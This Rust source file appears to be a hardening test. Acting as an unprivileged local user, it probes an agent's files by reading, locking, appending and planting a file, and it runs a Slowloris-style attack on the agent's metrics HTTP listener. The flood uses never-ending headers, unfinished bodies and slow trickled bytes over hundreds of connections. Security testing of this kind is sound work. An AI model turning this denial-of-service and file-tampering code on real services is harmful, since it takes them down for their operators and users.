//! A local user without privileges against the agent: exhausts its metrics listener, and tries to open, lock, replace and add to
//! its files.

use std::fs::{File, OpenOptions};
use std::io::{Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::os::unix::fs::MetadataExt;
use std::os::unix::net::UnixStream;
use std::path::{Path, PathBuf};
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::{Duration, Instant};

use anyhow::{Context, Result, ensure};
use serde_json::json;

/// Connections that send a head without an end, as fast as they are read.
const ENDLESS: usize = 8;

/// Connections that send a byte now and then, an unfinished body, or nothing: about as many as a process may open.
const SLOW: usize = 900;

/// Pause between two rounds over the slow connections.
const ROUND: Duration = Duration::from_millis(200);

/// What is attacked, and for how long.
#[derive(clap::Args)]
pub(crate) struct Arguments {
    /// Address of the metrics listener
    #[arg(long)]
    address: SocketAddr,
    /// Time of the attack on the listener, in seconds
    #[arg(long)]
    seconds: u64,
    /// A file, socket or directory of the agent; repeatable
    #[arg(long = "path", value_name = "PATH")]
    paths: Vec<PathBuf>,
}

/// Attacks the paths, then the listener, and prints a line of JSON: what succeeded, connections made and bytes sent. What could be
/// locked stays locked until the end.
///
/// # Errors
/// If it runs as root, for whom everything succeeds, or if nothing listens at first.
pub(crate) fn run(arguments: &Arguments) -> Result<()> {
    let user = std::fs::metadata("/proc/self").context("cannot read the user of this process")?.uid();
    ensure!(user != 0, "run it as another user than root");
    TcpStream::connect(arguments.address).with_context(|| format!("nothing listens at {}", arguments.address))?;
    let mut locks = Vec::new();
    let succeeded: Vec<String> = arguments.paths.iter().flat_map(|path| try_path(path, &mut locks)).collect();
    let end = Instant::now() + Duration::from_secs(arguments.seconds);
    let (connections, sent) = (AtomicU64::new(0), AtomicU64::new(0));
    std::thread::scope(|scope| {
        for _ in 0..ENDLESS {
            scope.spawn(|| endless_head(arguments.address, end, &connections, &sent));
        }
        scope.spawn(|| slow_clients(arguments.address, end, &connections, &sent));
    });
    let line = json!({ "succeeded": succeeded, "connections": connections.into_inner(), "sent_bytes": sent.into_inner() });
    println!("{line}");
    Ok(())
}

/// Returns what succeeded on one path.
fn try_path(path: &Path, locks: &mut Vec<File>) -> Vec<String> {
    let mut succeeded = Vec::new();
    let mut note = |what: &str| succeeded.push(format!("{what} {}", path.display()));
    if path.is_dir() {
        let planted = path.join("planted");
        if File::create(&planted).is_ok() {
            note("create a file in");
            let _ = std::fs::remove_file(planted);
        }
        return succeeded;
    }
    if UnixStream::connect(path).is_ok() {
        note("connect to");
    }
    if let Ok(file) = File::open(path) {
        note("read");
        if file.try_lock().is_ok() {
            note("lock");
            locks.push(file);
        }
    }
    if OpenOptions::new().append(true).open(path).is_ok() {
        note("write");
    }
    succeeded
}

fn connect(address: SocketAddr, connections: &AtomicU64) -> Option<TcpStream> {
    let stream = TcpStream::connect_timeout(&address, ROUND).ok()?;
    stream.set_write_timeout(Some(ROUND)).ok()?;
    connections.fetch_add(1, Ordering::Relaxed);
    Some(stream)
}

/// Sends request heads that never end.
fn endless_head(address: SocketAddr, end: Instant, connections: &AtomicU64, sent: &AtomicU64) {
    let part = format!("X-Part: {}\r\n", "a".repeat(8000));
    while Instant::now() < end {
        let Some(mut stream) = connect(address, connections) else {
            std::thread::sleep(ROUND);
            continue;
        };
        let mut bytes = b"GET /metrics HTTP/1.1\r\n".as_slice();
        while stream.write_all(bytes).is_ok() && Instant::now() < end {
            sent.fetch_add(bytes.len() as u64, Ordering::Relaxed);
            bytes = part.as_bytes();
        }
    }
}

/// Keeps as many connections as possible open: idle ones, some with an unfinished body, some that send a byte now and then.
fn slow_clients(address: SocketAddr, end: Instant, connections: &AtomicU64, sent: &AtomicU64) {
    let mut streams: Vec<Option<TcpStream>> = (0..SLOW).map(|_| None).collect();
    while Instant::now() < end {
        for (number, place) in streams.iter_mut().enumerate() {
            if place.as_mut().is_some_and(is_closed) {
                *place = None;
            }
            let stream = match place {
                Some(stream) => stream,
                None => {
                    let Some(stream) = connect(address, connections) else { continue };
                    let stream = place.insert(stream);
                    let _ = match number % 3 {
                        0 => Ok(()),
                        1 => stream.write_all(b"POST /metrics HTTP/1.1\r\nHost: x\r\nContent-Length: 1000000\r\n\r\nunfinished"),
                        _ => stream.write_all(b"GET /metrics HTTP/1.1\r\nX: "),
                    };
                    stream
                }
            };
            if number % 3 == 2 && stream.write_all(b"a").is_ok() {
                sent.fetch_add(1, Ordering::Relaxed);
            }
            if Instant::now() >= end {
                break;
            }
        }
        std::thread::sleep(ROUND);
    }
}

/// Whether the server has closed the connection.
fn is_closed(stream: &mut TcpStream) -> bool {
    let _ = stream.set_nonblocking(true);
    let closed = match stream.read(&mut [0; 256]) {
        Ok(count) => count == 0,
        Err(error) => error.kind() != std::io::ErrorKind::WouldBlock,
    };
    let _ = stream.set_nonblocking(false);
    closed
}
